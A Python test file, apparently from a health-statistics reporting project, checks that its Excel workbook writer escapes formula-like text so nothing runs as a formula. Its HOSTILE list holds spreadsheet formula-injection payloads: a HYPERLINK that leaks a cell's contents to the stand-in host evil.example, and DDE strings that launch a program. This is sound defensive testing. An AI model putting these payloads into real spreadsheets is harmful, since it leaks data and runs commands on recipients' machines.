"""No text we write into a workbook runs as a formula, whatever a facility delivered."""

from __future__ import annotations

from datetime import date

from openpyxl import load_workbook

from hanoi_health_lake.reports.cell_safety import FORMULA_STARTS
from hanoi_health_lake.reports.model import Column, Page, Section, Table, same
from hanoi_health_lake.reports.period import Period
from hanoi_health_lake.reports.workbook import write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _page() -> Page:
    table = Table(
        id="wards",
        title=same("=title"),
        columns=[Column("ward_code", same("Mã phường")), Column("cases", same("Ca"), "int")],
        rows=[[text, -7] for text in HOSTILE] + [["00004", 6]],
        row_ids=[f"={i}" for i in range(len(HOSTILE) + 1)],
        note=same("@note"),
    )
    day = date(2026, 3, 1)
    return Page(
        kind="dashboard",
        title=same("-page"),
        subtitle=same("+subtitle"),
        period=Period("daily", day, day),
        sections=[Section("s", same("s"), blocks=[table])],
        generated=same("=generated"),
    )


def test_no_cell_of_a_written_workbook_is_or_starts_like_a_formula(tmp_path):
    path = write_workbook(_page(), tmp_path / "dashboard.xlsx")
    book = load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                    texts.append(cell.value)
    # The text is still there to read, behind the quote; numbers stay numbers.
    # (XML keeps a carriage return as a line feed.)
    for hostile in HOSTILE:
        assert "'" + hostile.replace("\r", "\n") in [t.replace("\r", "\n") for t in texts]
    sheet = book.worksheets[1]
    numbers = [c.value for c in sheet["C"] if isinstance(c.value, int)]
    assert numbers.count(-7) == len(HOSTILE)
    assert "00004" in texts
